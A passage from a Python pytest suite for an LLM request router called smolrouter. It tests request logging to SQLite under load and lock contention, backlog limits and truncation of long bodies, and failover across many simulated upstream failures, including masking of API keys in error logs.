        "sys.argv = sys.argv[1:]; runpy.run_path(sys.argv[0], run_name='__main__')"
    )
    with Router(log_folder.settings, python=(sys.executable, "-c", limit)) as router:
        noise = os.urandom(400_000).hex()
        for number in range(4):
            assert post_chat(router, "tiny", f"{number}{noise}").status == 200
        assert wait_until(lambda: log_state(router)["error"])
        assert post_chat(router, "tiny").status == 200
        assert log_state(router)["backlog"] > 0


def test_a_log_that_nobody_reads_stops_nothing() -> None:
    settings = {"LISTEN_PORT": 0, "DEFAULT_UPSTREAM": default_upstream().url}
    with tempfile.TemporaryDirectory() as folder:
        process = subprocess.Popen(
            [sys.executable, str(SMOLROUTER)],
            cwd=folder, env=bare_environment(settings), stderr=subprocess.PIPE,
        )  # fmt: skip
        try:
            assert process.stderr
            port = int(process.stderr.readline().rpartition(b":")[2])
            with connect(port) as sock:
                # These are more lines than a pipe holds.
                for _ in range(1200):
                    exchange(sock, encode_get("/v1/" + "x" * 100))
                process.stderr.close()
                for _ in range(3):
                    assert parse_response(exchange(sock, encode_get("/v1/x"))).status == 200
        finally:
            process.terminate()
            assert process.wait(PATIENCE) == 0


# --- many requests, long bodies -------------------------------------------------------


def counted(router: Router) -> float:
    """How many requests /metrics tells of."""
    text = request(router.port, "GET", "/metrics").content.decode()
    return sum(map(float, re.findall(r"(?m)^smolrouter_requests_total\{.*\} (\S+)$", text)))


def burst(router: Router, count: int, path: str = "/api/generate", text: str = "") -> None:
    """Send requests that cost next to nothing, many at a time, and wait for their answers."""
    ask_one = encode_post(path, {"model": "tiny", "prompt": text})

    def client() -> None:
        with connect(router.port) as sock:
            sock.settimeout(PATIENCE * 3)
            sender = threading.Thread(target=sock.sendall, args=(ask_one * count,))
            sender.start()
            seen = b""
            while seen.count(b'"done":true') < count:
                data = sock.recv(1 << 20)
                assert data
                seen += data
            sender.join(PATIENCE)

    map_in_threads(lambda _: client(), range(20), workers=20)


def sums(log_folder: LogFolder) -> tuple[Any, ...]:
    """Requests as the rows, the details and the hourly sums have them."""
    return (
        log_folder.select("SELECT count(*), sum(failed), sum(completion_tokens) FROM requests")[0],
        log_folder.select("SELECT count(*) FROM details")[0][0],
        log_folder.select("SELECT sum(requests), sum(errors), sum(completion_tokens) FROM rollups")[
            0
        ],
    )


def test_a_burst_is_written(log_folder: LogFolder) -> None:
    """All of it, once, with details and sums, and nothing is left over at the end."""
    sent = 4000
    with log_folder.router(LOG_LEVEL="ERROR") as router:
        burst(router, sent // 20)
        assert log_folder.wait_for_rows(sent) == sent
        assert wait_until(lambda: counted(router) == sent)
        assert get_document(router, "/api/stats")["total_requests"] == sent
        assert wait_until(lambda: log_state(router)["backlog"] == 0)
        assert log_state(router) == {
            "enabled": True,
            "error": None,
            "notice": None,
            "backlog": 0,
            "lost": 0,
        }
        assert router.stop() == 0
    assert {f.name for f in log_folder.file.parent.glob("log.db*")} == {"log.db", "log.db-lock"}
    assert sums(log_folder) == ((sent, 0, None), sent, (sent, 0, 0))


def test_a_burst_with_long_bodies_is_written(log_folder: LogFolder) -> None:
    with log_folder.router() as router:

        def client(number: int) -> None:
            for turn in range(50):
                post_chat(router, "tiny", "x" * 20_000, stream=turn % 2 == 0)

        map_in_threads(client, range(4), workers=4)
        assert log_folder.wait_for_rows(200) == 200
        assert wait_until(lambda: counted(router) == 200)
        assert wait_until(lambda: router.stderr.count(" POST ") == 200)
    assert sums(log_folder) == ((200, 0, 600), 200, (200, 0, 600))
    assert log_folder.select("SELECT sum(uses) FROM blobs") == [(400,)]  # both bodies are long


def test_a_burst_is_counted_without_a_log_too(log_folder: LogFolder) -> None:
    with log_folder.router(ENABLE_LOGGING="false") as router:
        for _ in range(4):
            post_chat(router, "tiny")
        assert wait_until(lambda: counted(router) == 4)
        assert wait_until(lambda: router.stderr.count(" POST ") == 4)
    assert [f.name for f in log_folder.file.parent.iterdir()] == []


def test_what_was_answered_a_moment_before_a_kill_is_written(log_folder: LogFolder) -> None:
    """Under full load rows are late by a fifth of a second, and the relay waits for more."""
    with log_folder.router(LOG_LEVEL="ERROR") as router:
        stop = threading.Event()
        answered: list[float] = []

        def client(number: int) -> None:
            body = encode_request(
                "POST", "/api/generate", body=encode_json({"model": "tiny", "prompt": ""})
            )
            with connect(router.port) as sock, contextlib.suppress(OSError, AssertionError):
                while not stop.is_set():
                    exchange(sock, body)
                    answered.append(time.monotonic())

        threads = [threading.Thread(target=client, args=(n,)) for n in range(8)]
        for thread in threads:
            thread.start()
        time.sleep(2.0)
        router.process.kill()
        killed_at = time.monotonic()
        stop.set()
        for thread in threads:
            thread.join(PATIENCE)
    late = killed_at - 1.5  # this machine is busy, and this process is, too
    old = sum(moment < late for moment in answered)
    assert 20 < old <= len(finished_rows(log_folder))


def test_a_body_that_cannot_be_read_costs_no_row(
    log_folder: LogFolder, monkeypatch: pytest.MonkeyPatch
) -> None:
    count_tokens = smolrouter.count_tokens

    def faulty(record: Any, detail: Any) -> Any:
        assert b"odd" not in record.content, "a fault of ours"
        return count_tokens(record, detail)

    monkeypatch.setattr(smolrouter, "count_tokens", faulty)
    with running_log(log_folder) as log:
        for content in (b"even", b"odd", b"even", b"odd", b"even"):
            log_requests(log, 1, content=content, answer=b"[]")
        assert log_folder.wait_for_rows(5) == 5
        assert [row for (row,) in log_folder.select("SELECT status_code FROM requests")] == [
            200
        ] * 5
        with smolrouter.open_for_reading(str(log_folder.file)) as db:
            ids = [number for (number,) in db.execute("SELECT id FROM requests ORDER BY id")]
            details = [log.store.read_detail(db, number) for number in ids]
        assert [d.request for d in details] == [b"even", b"", b"even", b"", b"even"]
        assert [d.response for d in details] == [b"[]", b"", b"[]", b"", b"[]"]
        assert [json.loads(d.meta)["cut"] for d in details][:2] == [[False] * 2, [True] * 2]
        assert sum("a fault of ours" in line for line in log.lines) == 2
        assert [tally[0] for tally in log.series.values()] == [5]
        assert not log.error


def test_a_request_of_which_no_row_can_be_made_is_the_only_one_lost(
    log_folder: LogFolder, monkeypatch: pytest.MonkeyPatch
) -> None:
    make_row = smolrouter.make_row

    def faulty(record: Any, *args: Any, **more: Any) -> Any:
        assert record.request_id != "id3", "a fault of ours"
        return make_row(record, *args, **more)

    monkeypatch.setattr(smolrouter, "make_row", faulty)
    with running_log(log_folder) as log:
        log_requests(log, 8, content=b"{}")
        assert log_folder.wait_for_rows(7) == 7
        assert wait_until(lambda: (log.backlog, log.lost, log.body_bytes) == (0, 1, 0))
        log_requests(log, 1, content=b"{}")
        assert log_folder.wait_for_rows(8) == 8


def test_a_fault_while_rows_are_written_does_not_come_back(
    log_folder: LogFolder, monkeypatch: pytest.MonkeyPatch
) -> None:
    with running_log(log_folder) as log:
        log_requests(log, 1)
        assert log_folder.wait_for_rows(1) == 1
        monkeypatch.setattr(log.store, "write", lambda *args: 1 // 0)
        log_requests(log, 2)
        assert wait_until(lambda: (log.backlog, log.lost) == (0, 2))
        assert "ZeroDivisionError" in "".join(log.lines)
        assert "rows are lost by this fault" in "".join(log.lines)
        assert "too many rows wait" not in "".join(log.lines)
        monkeypatch.undo()
        log_requests(log, 1)
        assert log_folder.wait_for_rows(2) == 2


def test_rows_wait_for_a_locked_database_under_load(log_folder: LogFolder) -> None:
    with log_folder.router() as router:
        with five_while_locked(log_folder, router):
            assert wait_until(lambda: log_state(router)["backlog"] > 0)
        assert wait_until(lambda: log_state(router)["error"] is None and counted(router) == 6)
        post_chat(router, "after")
        assert log_folder.wait_for_rows(7) == 7
    assert sums(log_folder) == ((7, 0, 21), 7, (7, 0, 21))


def test_events_tell_of_all_that_is_written(log_folder: LogFolder) -> None:
    with log_folder.router() as router, connect(router.port) as sock:
        sock.sendall(encode_get("/api/events"))
        said = sock.recv(4096)
        number = 30
        for _ in range(number):
            post_chat(router, "tiny")

        def finished() -> set[str]:
            nonlocal said
            said += sock.recv(1 << 20)
            return set(re.findall(rb'"request_id":"(\w+)"[^{}]*"status_code":200', said))

        assert wait_until(lambda: len(finished()) == number), said


def test_new_requests_wait_for_a_log_that_is_behind(log_folder: LogFolder) -> None:
    """For a moment at most, and not for a database in trouble."""
    limits = {"batch_rows": 8, "row_delay": 0.05, "log_wait": 0.3, "database_lock_timeout": 2.0}

    async def wait(log: Any) -> float:
        began = time.monotonic()
        log_requests(log, 20)  # and again: by now the oldest row is late
        await asyncio.sleep(0.1)
        log_requests(log, 1)
        await log.wait_to_begin()
        return time.monotonic() - began

    with running_log(log_folder, **limits) as log:
        log_requests(log, 1)
        assert log_folder.wait_for_rows(1) == 1
        with contextlib.closing(sqlite3.connect(log_folder.file, isolation_level=None)) as db:
            db.execute("BEGIN IMMEDIATE")
            assert not log.error and 0.3 < run_coroutine(wait(log)) < 1.5
            assert wait_until(lambda: "locked" in log.error)
            assert run_coroutine(wait(log)) < 0.25
            db.execute("ROLLBACK")
        assert log_folder.wait_for_rows(43) == 43
        assert wait_until(lambda: not log.error) and run_coroutine(wait(log)) < 0.25
        assert log_folder.wait_for_rows(64) == 64 and log.lost == 0


def test_bodies_that_come_too_fast_are_cut(log_folder: LogFolder) -> None:
    """Their rows are complete; short bodies cost next to nothing and stay."""
    limits = {"body_time_savings": 0.0, "body_time_share": 0.0, "batch_rows": 1}
    answer = encode_json({**completion({}, "word " * 1000), "usage": {"completion_tokens": 1000}})
    with running_log(log_folder, **limits) as log:
        log_requests(log, 3, content=b"short", answer=answer)
        log_requests(log, 3, content=b"short", answer=b"[]")
        assert log_folder.wait_for_rows(6) == 6
        with smolrouter.open_for_reading(str(log_folder.file)) as db:
            rows = db.execute("SELECT id, completion_tokens FROM requests ORDER BY id").fetchall()
            details = [log.store.read_detail(db, number) for number, _ in rows]
    assert [tokens for _, tokens in rows] == [1000] * 3 + [0] * 3
    assert [d.response for d in details] == [answer[:1024]] * 3 + [b"[]"] * 3
    assert [json.loads(d.meta)["cut"] for d in details] == [[False, True]] * 3 + [[False] * 2] * 3


@pytest.mark.parametrize("settings", [{}, {"MAX_BLOB_SIZE": 0}, {"MAX_BLOB_SIZE": 50}])
def test_bodies_over_all_memory_are_cut_and_cost_no_estimate(
    log_folder: LogFolder, settings: Mapping[str, Any]
) -> None:
    """What is not known is nothing, never 0; of what was cut there is as much as fitted."""
    content = encode_json(chat_document("m", "word " * 9000))
    answer = encode_json(
        {"choices": [{"message": {"role": "assistant", "content": "word " * 9000}}]}
    )
    size = settings.get("MAX_BLOB_SIZE", 20_000)
    with running_log(log_folder, settings, body_memory=20_000) as log:
        log_requests(log, 1, content=content, answer=answer)
        assert log_folder.wait_for_rows(1) == 1
        ((number, prompt, said),) = log_folder.select(
            "SELECT id, prompt_tokens, completion_tokens FROM requests"
        )
        with smolrouter.open_for_reading(str(log_folder.file)) as db:
            detail = log.store.read_detail(db, number)
        assert log.body_bytes == 0
    assert (prompt, said) == (None, None)
    assert json.loads(detail.meta)["cut"] == [True, True]
    assert (detail.request, detail.response) == (content[:size], answer[: 50 if size == 50 else 0])


def test_events_are_gathered(log_folder: LogFolder) -> None:
    """Many small objects would leave Python's memory full of holes."""
    with running_log(log_folder) as log:
        record = new_record(1)
        record.pieces = []
        log.begin(record)
        events = [b"data: %d\n\n" % number for number in range(5000)]
        for event in events:
            log.append_body(record, event)
        long = b"x" * 5000
        for piece in (long, b"the", b" end"):
            log.append_body(record, piece)
        assert b"".join(record.pieces) == b"".join(events) + long + b"the end"
        assert len(record.pieces) < 10 and long in record.pieces
        assert record.pieces_size == sum(map(len, record.pieces))
        record.stream = True
        assert record.event_count == 5000
        log.finish(record)
        assert log_folder.wait_for_rows(1) == 1


def test_the_backlog_is_bounded(log_folder: LogFolder) -> None:
    """Rows and bodies that no database takes: the oldest go, and the memory is bounded."""
    log_folder.file.mkdir()  # where the database should be
    with running_log(log_folder, backlog_rows=50, retry_interval=0.05) as log:
        records = log_requests(log, 60, content=b"asked" * 50)
        assert wait_until(lambda: log.lost == 10)
        assert list(log.finished) == records[10:] and log.backlog == 50
        assert log.body_bytes == sum(record.body_bytes for record in records[10:]) > 0
        assert any("the oldest are lost" in line for line in log.lines)
        log_folder.file.rmdir()
        assert log_folder.wait_for_rows(50) == 50 and wait_until(lambda: log.body_bytes == 0)
        assert wait_until(lambda: "log: works again; 10 rows are lost" in log.lines)


def test_the_backlog_is_bounded_in_octets(log_folder: LogFolder) -> None:
    """Clients choose how long the fields of their requests are, and the names in their rows."""
    log_folder.file.mkdir()  # where the database should be
    limits = {"backlog_octets": 100_000, "retry_interval": 0.05}
    with running_log(log_folder, **limits) as log:
        fields = [("x-long", "X-Long", os.urandom(15_000).hex())]
        records = log_requests(log, 40, request_fields=smolrouter.Fields(fields))
        assert wait_until(lambda: log.lost > 30)
        assert list(log.finished) == records[-log.backlog :] and 4 <= log.backlog <= 6
        kept = log.backlog
        log_folder.file.rmdir()
        assert log_folder.wait_for_rows(kept) == kept
    # So it is with names, of which a row has several.
    log_folder.file.unlink()
    log_folder.file.mkdir()
    with running_log(log_folder, **limits) as log:
        log_requests(log, 200, requested_model="語" * 300, mapped_model="語" * 300)
        assert wait_until(lambda: log.lost > 100)


def test_each_trouble_tells_of_its_own_losses(
    log_folder: LogFolder, monkeypatch: pytest.MonkeyPatch
) -> None:
    def full_disk(*args: Any) -> None:
        raise OSError("the disk is full")

    with running_log(log_folder, backlog_rows=2, retry_interval=0.05) as log:
        lost = 0
        for count in (3, 2, 4):
            log.lines.clear()
            monkeypatch.setattr(log.store, "write", full_disk)
            log_requests(log, count)
            lost += count - 2
            assert wait_until(lambda lost=lost: log.error and (log.lost, log.backlog) == (lost, 2))
            monkeypatch.undo()
            assert wait_until(lambda: log.lines[-1].startswith("log: works again"))
            here = f"; {count - 2} rows are lost" if count > 2 else ""
            assert log.lines[-1] == f"log: works again{here}"
            told = [line for line in log.lines if "the oldest are lost" in line]
            assert len(told) == (1 if count > 2 else 0)


def test_a_long_body_whose_file_is_gone_is_filed_again(log_folder: LogFolder) -> None:
    content = b"long " * 10_000
    with running_log(log_folder) as log:
        log_requests(log, 1, content=content)
        assert log_folder.wait_for_rows(1) == 1
        (file,) = log_folder.blobs.rglob("*.z")
        file.unlink()
        log_requests(log, 1, content=content)
        assert log_folder.wait_for_rows(2) == 2
        assert zlib.decompress(file.read_bytes()) == content


def test_the_end_waits_for_a_database_that_is_locked(log_folder: LogFolder) -> None:
    """For as long as SHUTDOWN_GRACE; then it says how many rows are lost."""
    with log_folder.router(SHUTDOWN_GRACE=8) as router:
        post_chat(router, "before")
        assert log_folder.wait_for_rows(1) == 1
        with contextlib.closing(sqlite3.connect(log_folder.file, isolation_level=None)) as db:
            db.execute("BEGIN IMMEDIATE")
            for _ in range(20):
                post_chat(router, "during")
            router.process.send_signal(signal.SIGTERM)
            time.sleep(1.6)
            db.execute("ROLLBACK")
        assert router.wait() == 0
    assert log_folder.wait_for_rows(21) == 21
    with log_folder.router(SHUTDOWN_GRACE=1) as router:
        post_chat(router, "before")
        assert log_folder.wait_for_rows(22) == 22
        with contextlib.closing(sqlite3.connect(log_folder.file, isolation_level=None)) as db:
            db.execute("BEGIN IMMEDIATE")
            for _ in range(3):
                post_chat(router, "during")
            assert router.stop() == 0
        assert "log: 3 rows are lost" in router.stderr


def test_a_database_without_locks_of_files(
    log_folder: LogFolder, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Windows has no fcntl: there a database has one router, and open rows were interrupted."""
    monkeypatch.setitem(sys.modules, "fcntl", None)
    store = make_store(log_folder.file.parent)
    store.write([make_row(number, failed=None, status_code=None) for number in range(3)], [], {})
    store.close()
    other = make_store(log_folder.file.parent)
    assert len(other.finish_interrupted([])) == 3
    assert (
        log_folder.select("SELECT failed, error_message FROM requests") == [(1, "interrupted")] * 3
    )
    other.close()
    assert not log_folder.file.with_name("log.db-lock").exists()


# ======================================================================================
# 14  Relay
# ======================================================================================
# One exchange, first byte to last: failover, fields, usage, and events as they come. A new way
# to fail gets a case in FAILURES and is tried with every endpoint, streamed and not.

# --- failover -------------------------------------------------------------------------


def unreachable_url() -> str:
    """Return the URL of a port that never answers, like that of a box that is switched off."""
    listener = socket.create_server(("127.0.0.1", 0), backlog=0)
    TAKEN_PORTS.append(listener)
    # Fill the queue of the listener, which accepts nobody.
    for _ in range(4):
        TAKEN_PORTS.append(socket.socket())
        TAKEN_PORTS[-1].setblocking(False)
        TAKEN_PORTS[-1].connect_ex(listener.getsockname())
    return f"http://127.0.0.1:{listener.getsockname()[1]}"


def upstream_playing(*steps: Step) -> Callable[[], str]:
    """Make a function that starts an upstream with this one answer and returns its URL."""
    return lambda: Upstream(lambda received: steps).url


def upstream_failing(status: int, *fields: tuple[str, str]) -> Callable[[], str]:
    """Make a function that starts an upstream with this one status and returns its URL."""
    return upstream_playing(*json_response({"error": {"message": f"no: {status}"}}, status, fields))


FAILURES: dict[str, Callable[[], str]] = {
    "refused": refusing_url,
    "connect timeout": unreachable_url,
    "no TLS": lambda: Upstream().url.replace("http:", "https:"),
    "400": upstream_failing(400),
    "404": upstream_failing(404),
    "429": upstream_failing(429, ("Retry-After", "1")),
    "500": upstream_failing(500),
    "503": upstream_failing(503),
    "late head": upstream_playing(HANG),
    "reset": upstream_playing(DROP),
    "closed": upstream_playing(CLOSE),
    "half a head": upstream_playing(b"HTTP/1.1 200 OK\r\nContent-", CLOSE),
    "noise": upstream_playing(b"SSH-2.0-OpenSSH_9.6\r\n\r\n", CLOSE),
    "two lengths": upstream_playing(*raw_response(b"Content-Length: 2\r\nContent-Length: 3")),
    "head and no content": upstream_playing(*raw_response(b"Content-Length: 9", b"")),
    "head and no chunk": upstream_playing(*raw_response(CHUNKED_FIELD, b"")),
    "bad first chunk": upstream_playing(*raw_response(CHUNKED_FIELD, b"zz\r\n")),
    "empty content": upstream_playing(*whole_response(b"")),
    "empty stream": upstream_playing(*stream_response([])),
    # The router keeps such answers until all of them is there.
    "half a document": upstream_playing(*raw_response(JSON_FIELD + b"\r\nContent-Length: 99")),
    "half a chunked document": upstream_playing(
        *raw_response(JSON_FIELD + b"\r\n" + CHUNKED_FIELD, b'6\r\n{"id":\r\n'), DROP
    ),
    "a document without an end": upstream_playing(*raw_response(JSON_FIELD, b'{"id": 1, ')),
    "half of a gzip": upstream_playing(
        *whole_response(
            gzip.compress(b"{}")[:-4], 200, [("Content-Encoding", "gzip")], "application/json"
        )
    ),
    # A server that says 200 to a path that it has not got, and one whose model is broken.
    "error in a document": upstream_playing(*json_response({"error": "Unexpected endpoint"})),
    "error in an event": upstream_playing(*sse_response([{"error": {"message": "no memory"}}])),
    "error in a text": upstream_playing(*whole_response(b'{"error": "no such path"}')),
    "error in a gzip": upstream_playing(
        *whole_response(
            gzip.compress(b'{"error": "x"}'), 200, [("Content-Encoding", "gzip")], "text/plain"
        )
    ),
    "role and an error": upstream_playing(
        *sse_response([completion_events({}, "x")[0], {"error": {"message": "no memory"}}])
    ),
    "role and no more": upstream_playing(*sse_response([completion_events({}, "x")[0], "[DONE]"])),
    "role and a cut": upstream_playing(
        *stream_response([RAW_PING, encode_event(completion_events({}, "x")[0])], whole=False), DROP
    ),
    "pings and a cut": upstream_playing(*stream_response([RAW_PING, RAW_PING], whole=False), DROP),
    "pings until the close": upstream_playing(*stream_response([RAW_PING], framed=False)),
    "empty document": upstream_playing(*json_response({})),
    "error in half an event": upstream_playing(
        *stream_response([encode_event({"error": {"message": "no memory"}})[:-1]])
    ),
}
# What only a client of OpenAI's may read.
NOT_TRANSLATABLE: dict[str, Callable[[], str]] = {
    "page": upstream_playing(*whole_response(b"<title>It works</title>", kind="text/html")),
    "array": upstream_playing(*json_response([1])),
    "text": upstream_playing(*whole_response(b"no such path")),
}
OTHERS: dict[str, Callable[[], str]] = {
    "sound": lambda: Upstream().url,
    "half a stream": upstream_playing(*broken_stream(DROP)),
    "half a content": upstream_playing(*raw_response(b"Content-Length: 99", b'{"Hello": "')),
}
NOBODY: dict[str, tuple[tuple[str, ...], int, str]] = {
    "refused once": (("refused",), 502, "refused"),
    "late": (("late head",), 504, "2 s (REQUEST_TIMEOUT)"),
    "unreachable": (("connect timeout",), 504, "0.5 s (CONNECT_TIMEOUT)"),
    "refused twice": (("refused", "refused"), 502, "refused"),
    "late, refused": (("late head", "refused"), 502, "2 s (REQUEST_TIMEOUT)"),
    "refused, late": (("refused", "late head"), 504, "2 s (REQUEST_TIMEOUT)"),
    "refused, unreachable": (
        ("refused", "connect timeout"), 504, "0.5 s (CONNECT_TIMEOUT)"),
    "refused, reset": (("refused", "reset"), 502, "refused"),
    "refused, noise": (("refused", "noise"), 502, "refused"),
}  # fmt: skip
ALIASES: dict[str, tuple[str, ...]] = {
    **{failure: (failure, "sound") for failure in {**FAILURES, **NOT_TRANSLATABLE}},
    **{nobody: failures for nobody, (failures, _, _) in NOBODY.items()},
    "half a stream": ("half a stream", "sound"),
    "half a content": ("half a content", "sound"),
}


@functools.lru_cache
def router_of_failures() -> Router:
    """Return a router with an alias `{name} {way}` for each of ALIASES and of ALL_WAYS.

    Each has servers of its own, which are paths of the same ports: none is cooling
    for what happened in another test.
    """
    urls = {kind: make() for kind, make in {**FAILURES, **NOT_TRANSLATABLE, **OTHERS}.items()}
    servers = {"sound": urls["sound"]}
    aliases = {}
    for name, way in itertools.product(ALIASES, range(len(ALL_WAYS))):
        instances = []
        for turn, kind in enumerate(ALIASES[name]):
            server = "sound" if kind == "sound" else f"{name} {way} {turn}"
            servers.setdefault(server, f"{urls[kind]}/{len(servers)}")
            instances.append({"server": server, "model": kind})
        aliases[f"{name} {way}"] = {"instances": instances}
    settings = {"CONNECT_TIMEOUT": 0.5, "REQUEST_TIMEOUT": 2}
    return shared_router(settings, {"servers": servers, "aliases": aliases})


def ask_failing(name: str, way: int) -> Response:
    """Ask for one of the aliases of `router_of_failures()` in one of the ways."""
    path, stream = ALL_WAYS[way]
    document = example_request(path, f"{name} {way}", stream)
    return request(router_of_failures().port, "POST", path, document)


def in_all_ways(name: str) -> list[tuple[str, bool, Response]]:
    """Ask an alias of `router_of_failures()` in all ways at once; return ways and answers."""
    # Start the router before the threads ask for it.
    assert router_of_failures().port
    ways = range(len(ALL_WAYS))
    answers = map_in_threads(ask_failing, [name] * len(ways), ways, workers=len(ways))
    return [(*way, got) for way, got in zip(ALL_WAYS, answers, strict=True)]


@pytest.mark.parametrize("failure", FAILURES)
def test_failover(failure: str) -> None:
    for path, stream, got in in_all_ways(failure):
        assert (got.status, got.whole) == (200, True), (path, stream, got)
        assert got.get("X-SmolRouter-Attempts") == "2", (path, stream, got)
        assert got.get("X-SmolRouter-Model") == "sound"
        if (path, True) in ALL_WAYS:
            assert got.text == "You said: hi", (path, stream, got)


@pytest.mark.parametrize("failure", NOT_TRANSLATABLE)
def test_failover_of_what_cannot_be_translated(failure: str) -> None:
    for path, stream, got in in_all_ways(failure):
        if path.startswith("/api/"):
            assert (got.status, got.whole) == (200, True), (path, stream, got)
            assert got.get("X-SmolRouter-Attempts") == "2", (path, stream, got)


def test_the_log_keeps_nothing_of_an_answer_that_does_not_count() -> None:
    answer = b'{"error": "no memory", "x": "' + b"y" * 30_000 + b'"}'
    first = upstream_playing(*whole_response(answer, kind="application/json"))()
    with router_of_two(first, Upstream().url) as router:
        got = post_chat(router, "pair")
        assert got.text == "You said: hi"
        detail = wait_for_detail(router, "pair")
    assert [(a["status"], a["error"]) for a in detail["attempts"]] == [
        (200, "no memory"),
        (200, None),
    ]
    assert "no memory" not in detail["response_body"] and "You said" in detail["response_body"]


NO_MEMORY_LEFT: dict[str, list[Step]] = {
    "OpenAI": json_response({"error": {"message": "CUDA out of memory", "code": 500}}, 500),
    "Ollama": json_response({"error": "CUDA out of memory"}, 404),
    "FastAPI": json_response({"detail": "CUDA out of memory"}, 422),
    "vLLM": json_response({"object": "error", "message": "CUDA out of memory"}, 400),
    "a text": whole_response(b"CUDA out of memory", 503),
    "in gzip": whole_response(
        gzip.compress(b'{"error": "CUDA out of memory"}'),
        429,
        [("Content-Encoding", "gzip")],
        "application/json",
    ),
    "in chunks": [
        response_head(500, [("Transfer-Encoding", "chunked")]),
        *encode_chunks(b'{"error": "CUDA out ', b'of memory"}'),
    ],
}


@functools.lru_cache
def router_out_of_memory() -> Router:
    """Return a router with aliases for each of NO_MEMORY_LEFT, and for each of ALL_WAYS."""
    servers = {"sound": Upstream().url}
    aliases = {}
    for number, steps in enumerate(NO_MEMORY_LEFT.values()):
        servers[f"s{number}"] = upstream_playing(*steps)()
        aliases[f"pair-{number}"] = {"instances": [f"s{number}/n", "sound/n"]}
        for way in range(len(ALL_WAYS)):
            aliases[f"alone-{number}-{way}"] = {"instances": [f"s{number}/m"]}
    return shared_router({}, {"servers": servers, "aliases": aliases})


@pytest.mark.parametrize("number", range(len(NO_MEMORY_LEFT)), ids=NO_MEMORY_LEFT)
def test_words_of_an_error_are_in_its_row(number: int) -> None:
    router = router_out_of_memory()
    for way, (path, stream) in enumerate(ALL_WAYS):
        alias = f"alone-{number}-{way}"
        got = request(router.port, "POST", path, example_request(path, alias, stream))
        assert got.status >= 400
        row = wait_for_row(router, alias)
        assert row["error_message"] == "CUDA out of memory", (path, stream)


@pytest.mark.parametrize("number", range(len(NO_MEMORY_LEFT)), ids=NO_MEMORY_LEFT)
def test_words_of_an_error_are_in_the_attempt_that_failed(number: int) -> None:
    router = router_out_of_memory()
    assert post_chat(router, f"pair-{number}").status == 200
    row = wait_for_detail(router, f"pair-{number}")
    failed, good = row["attempts"]
    assert (failed["error"], good["error"]) == ("CUDA out of memory", None)
    assert good["status"] == 200 < failed["status"]
    assert row["error_message"] is None


@pytest.mark.parametrize("status", [200, 401])
@pytest.mark.parametrize("alone", [False, True])
def test_words_of_an_error_do_not_tell_keys(status: int, alone: bool) -> None:
    """The client's own, and the one in the routing file."""
    keys = ["sk-of-the-client-0123456789", "sk-of-the-server-0123456789"]

    def script(received: Received) -> Iterable[Step]:
        return json_response({"error": {"message": f"bad key: {', '.join(keys)}"}}, status)

    with Upstream(script) as odd, Upstream() as sound:
        servers = {"odd": {"url": odd.url, "api_key": keys[1]}, "sound": sound.url}
        instances = ["odd/m"] if alone else ["odd/m", "sound/m"]
        routes = {"servers": servers, "aliases": {"pair": {"instances": instances}}}
        with Router({}, routes) as router:
            fields = [("Authorization", f"Bearer {keys[0]}")]
            got = request(router.port, "POST", CHAT, chat_document("pair"), fields)
            detail = wait_for_detail(router, "pair")
            words = detail["error_message"] or detail["attempts"][0]["error"]
            assert re.fullmatch(r"bad key: (Bearer )?\*\*\*\w+, \*\*\*\w+", words)
            shown = json.dumps(request(router.port, "GET", "/api/upstreams").json)
            for key in keys:
                assert key not in json.dumps(detail["attempts"]) + router.stderr + shown
                assert key not in (detail["error_message"] or "")
                # Its client gets the answer as it is.
                assert not alone or key in got.content.decode()


# How a stream that has said nothing yet may go on, and the reason that its attempt has then.
AFTER_NOTHING: dict[str, tuple[list[Any], str]] = {
    "end": ([b""], "it ended before it said anything"),
    "cut": ([DROP], "the answer broke off: connection reset by peer"),
    "error": ([{"error": {"message": "no memory"}}], "no memory"),
    "503": ([{"error": {"message": "Loading model", "code": 503}}], "Loading model"),
}
# Each endpoint; the last two of servers that speak Ollama themselves.
SILENT_WAYS = [*((path, "openai") for path in SAY_NOTHING), ("/api/chat", "ollama"),
               ("/api/generate", "ollama")]  # fmt: skip


def silent_steps(path: str, then: Iterable[Any]) -> list[Step]:
    """Begin a stream of a path, say nothing, and go on with these events and steps."""
    pieces: list[Step] = [*encode_events(path, SAY_NOTHING[path])]
    for one in then:
        pieces += [one] if isinstance(one, Mark | bytes) else encode_events(path, [one])
    if pieces[-1] is DROP:
        # What came before has to arrive before the reset does.
        return [*stream_response(pieces[:-1], kind=event_type(path), whole=False), 0.1, DROP]
    return stream_response(pieces, kind=event_type(path))


@functools.cache
def silent_router() -> Router:
    """Return a router with an alias `{number of way}-{how}` of an instance that says nothing."""
    silent = Upstream()
    servers = {
        "openai": silent.url,
        "ollama": {"url": f"{silent.url}/x", "api": "ollama"},
        "sound": Upstream().url,
        "sound-ollama": {"url": Upstream(ollama_server).url, "api": "ollama"},
    }
    aliases = {}
    for (number, (path, api)), how in itertools.product(enumerate(SILENT_WAYS), AFTER_NOTHING):
        spoken = path
        if api == "openai" and path.startswith("/api/"):
            spoken = CHAT
        model = silent.add_script(silent_steps(spoken, AFTER_NOTHING[how][0]))
        sound = "sound" if api == "openai" else "sound-ollama"
        aliases[f"{number}-{how}"] = {"instances": [f"{api}/{model}", f"{sound}/good"]}
    return shared_router({}, {"servers": servers, "aliases": aliases})


@pytest.mark.parametrize("how", AFTER_NOTHING)
@pytest.mark.parametrize("number", range(len(SILENT_WAYS)))
def test_nothing_said_is_no_answer(number: int, how: str) -> None:
    path, _ = SILENT_WAYS[number]
    router = silent_router()
    document = {**EXAMPLE_REQUESTS.get(path, EXAMPLE_REQUESTS[CHAT]), "stream": True}
    got = request(router.port, "POST", path, {**document, "model": f"{number}-{how}"})
    assert (got.status, got.whole, got.get("X-SmolRouter-Attempts")) == (200, True, "2")
    assert got.get("X-SmolRouter-Model") == "good"
    detail = wait_for_detail(router, f"{number}-{how}")
    assert [(one["status"], one["error"]) for one in detail["attempts"]] == [
        (200, AFTER_NOTHING[how][1]),
        (200, None),
    ]
    assert detail["error_message"] is None and detail["status_code"] == 200
    # Of what counts for nothing, nothing is kept.
    for event in encode_events(path, SAY_NOTHING[path])[-2:]:
        assert event.decode().strip() not in detail["response_body"]


@pytest.mark.parametrize("how", AFTER_NOTHING)
def test_who_says_nothing_is_asked_last(how: str) -> None:
    """But for an error that may be the request's: the next request is as welcome as this one."""
    with (
        Upstream() as silent,
        Upstream() as sound,
        router_of_two(silent.url, sound.url) as router,
    ):
        silent.scripts["m"] = lambda received: silent_steps(CHAT, AFTER_NOTHING[how][0])
